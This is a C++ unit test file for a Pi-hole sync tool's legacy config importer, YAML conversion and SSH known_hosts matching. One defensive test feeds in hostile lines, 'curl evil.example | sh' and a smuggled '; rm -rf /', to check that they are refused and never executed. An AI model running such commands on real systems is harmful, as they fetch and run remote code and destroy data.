#include <gtest/gtest.h>

#include "gravity_sync/config/config.hpp"
#include "gravity_sync/legacy/import.hpp"

namespace gs {
namespace {

const char* kConf = R"(# REQUIRED SETTINGS ######################

# Primary Pi-hole host (in IP or DNS name)
REMOTE_HOST='192.168.1.10'

# User account on primary with SUDO rights
REMOTE_USER="root"
GS_SSH_PORT=2222
export GS_SSH_PKIF='/etc/gravity-sync/gravity-sync.rsa'   # the key
LOCAL_FILE_OWNER='pihole:pihole'
REMOTE_PIHOLE_DIRECTORY='/srv/pihole'
MY_OWN_SETTING=1
)";

TEST(Legacy, ReadsAssignmentsAsData) {
  auto c = parse_legacy_config(kConf, "gs.conf", {});
  ASSERT_TRUE(c.ok()) << c.error().message;
  EXPECT_EQ(c->values.at("REMOTE_HOST"), "192.168.1.10");
  EXPECT_EQ(c->values.at("REMOTE_USER"), "root");
  EXPECT_EQ(c->values.at("GS_SSH_PORT"), "2222");
  EXPECT_EQ(c->values.at("GS_SSH_PKIF"), "/etc/gravity-sync/gravity-sync.rsa");
  EXPECT_EQ(c->unknown, std::vector<std::string>{"MY_OWN_SETTING"});
  EXPECT_EQ(c->ignored, std::vector<std::string>{"LOCAL_FILE_OWNER"});
}

TEST(Legacy, TheYamlItMakesIsValidAndCarriesTheValues) {
  auto c = parse_legacy_config(kConf, "gs.conf", {});
  const std::string yaml = legacy_to_yaml(*c, "/etc/gravity-sync/known_hosts");
  Config cfg = parse_config(yaml, "out.yaml");
  EXPECT_EQ(cfg.remotes.at(0).host, "192.168.1.10");
  EXPECT_EQ(cfg.remotes.at(0).port, 2222);
  EXPECT_EQ(cfg.remotes.at(0).user, "root");
  EXPECT_EQ(cfg.remotes.at(0).identity_file, "/etc/gravity-sync/gravity-sync.rsa");
  EXPECT_EQ(cfg.remotes.at(0).layout.pihole_dir, "/srv/pihole");
  EXPECT_EQ(cfg.local.pihole_dir, "/etc/pihole");
}

TEST(Legacy, TheEnvironmentFillsWhatTheFileLacks) {
  auto c = parse_legacy_config("REMOTE_USER='root'\n", "gs.conf", {{"REMOTE_HOST", "10.0.0.2"}, {"GS_SSH_PORT", "2200"}});
  ASSERT_TRUE(c.ok());
  EXPECT_EQ(c->values.at("REMOTE_HOST"), "10.0.0.2");
  EXPECT_EQ(parse_config(legacy_to_yaml(*c, "/k"), "x").remotes.at(0).port, 2200);
  auto file_wins = parse_legacy_config("REMOTE_HOST='a.lan'\n", "gs.conf", {{"REMOTE_HOST", "b.lan"}});
  EXPECT_EQ(file_wins->values.at("REMOTE_HOST"), "a.lan");
}

TEST(Legacy, AnythingButAssignmentsIsRefusedNeverRun) {
  auto cmd = parse_legacy_config("REMOTE_HOST='a'\ncurl evil.example | sh\n", "gs.conf", {});
  ASSERT_FALSE(cmd.ok());
  EXPECT_EQ(cmd.error().code, ExitCode::usage);
  EXPECT_EQ(cmd.error().message,
            "gs.conf:2: not a NAME=value line (the file is read as data, never run): curl evil.example | sh");
  EXPECT_FALSE(parse_legacy_config("REMOTE_HOST='a'; rm -rf /\n", "gs.conf", {}).ok());
  EXPECT_FALSE(parse_legacy_config("REMOTE_HOST='unterminated\n", "gs.conf", {}).ok());
  auto expansion = parse_legacy_config("REMOTE_HOST='a'\nGS_SSH_PKIF=\"${GS_ETC_PATH}/key\"\n", "gs.conf", {});
  ASSERT_TRUE(expansion.ok());
  EXPECT_EQ(expansion->values.at("GS_SSH_PKIF"), "${GS_ETC_PATH}/key");
  EXPECT_EQ(expansion->warnings.size(), 1u);
}

TEST(Legacy, RemoteHostIsRequired) {
  auto c = parse_legacy_config("REMOTE_USER='pi'\n", "gs.conf", {});
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.error().message, "gs.conf: REMOTE_HOST is not set (in the file or the environment)");
}

TEST(Legacy, ContainersAndNonRootUsersAreCarriedOver) {
  auto c = parse_legacy_config("REMOTE_HOST='a'\nREMOTE_USER='pi'\nREMOTE_PIHOLE_TYPE='docker'\n"
                               "REMOTE_DOCKER_CONTAINER='pihole'\nLOCAL_PIHOLE_TYPE='podman'\n"
                               "LOCAL_DOCKER_CONTAINER='ph2'\n", "gs.conf", {});
  const std::string yaml = legacy_to_yaml(*c, "/k");
  EXPECT_NE(yaml.find("pi ALL=(root) NOPASSWD: /bin/sh"), std::string::npos) << yaml;
  const Config config = parse_config(yaml, "x");
  EXPECT_TRUE(config.remotes.at(0).sudo);
  EXPECT_EQ(config.remotes.at(0).user, "pi");
  EXPECT_EQ(config.remotes.at(0).layout.container, "docker:pihole");
  EXPECT_EQ(config.local.container, "podman:ph2");
}

TEST(Legacy, KnownHostLinesMatchPlainBracketedAndHashedNames) {
  // Hashed entries (ssh-keygen -H) are covered end to end in e2e/legacy_test.cpp.
  const std::string text =
      "192.168.1.10 ssh-ed25519 AAAAplain\n"
      "[192.168.1.10]:2222 ssh-ed25519 AAAAport\n"
      "other.lan,192.168.1.10 ssh-rsa AAAAlist\n"
      "# comment\n"
      "10.0.0.9 ssh-ed25519 AAAAother\n";
  auto plain = known_host_lines(text, "192.168.1.10", 22);
  ASSERT_EQ(plain.size(), 2u);
  EXPECT_EQ(plain[0], "192.168.1.10 ssh-ed25519 AAAAplain");
  auto port = known_host_lines(text, "192.168.1.10", 2222);
  ASSERT_EQ(port.size(), 1u);
  EXPECT_EQ(port[0], "[192.168.1.10]:2222 ssh-ed25519 AAAAport");
}

// Found by tests/fuzz/legacy_fuzz: a hashed entry whose base64 had more '=' than the
// padding of one group ("|1|========|...") made the decoded length wrap around and
// known_host_lines throw std::length_error out of `import-legacy`.
TEST(Legacy, KnownHostLinesSkipHashedEntriesThatAreNotBase64) {
  const std::string good = "|1|AAECAwQFBgcICQoLDA0ODxAREhM=|muGAufaVX3/V14kjLJSzsrFEvP8= ssh-ed25519 AAAAhashed";
  const std::string text =
      "|1|========|AAAA ssh-ed25519 AAAAbad1\n"
      "|1|AAAA|==== ssh-ed25519 AAAAbad2\n"
      "|1|A===|AAA ssh-ed25519 AAAAbad3\n"
      "|1||muGAufaVX3/V14kjLJSzsrFEvP8= ssh-ed25519 AAAAbad4\n"
      "|1| AECAwQFBgcICQoLDA0ODxAREhM=|muGAufaVX3/V14kjLJSzsrFEvP8=,x ssh-ed25519 AAAAbad5\n" +
      good + "\n";
  std::vector<std::string> lines;
  ASSERT_NO_THROW(lines = known_host_lines(text, "192.168.1.10", 22));
  EXPECT_EQ(lines, std::vector<std::string>{good});
}

}  // namespace
}  // namespace gs
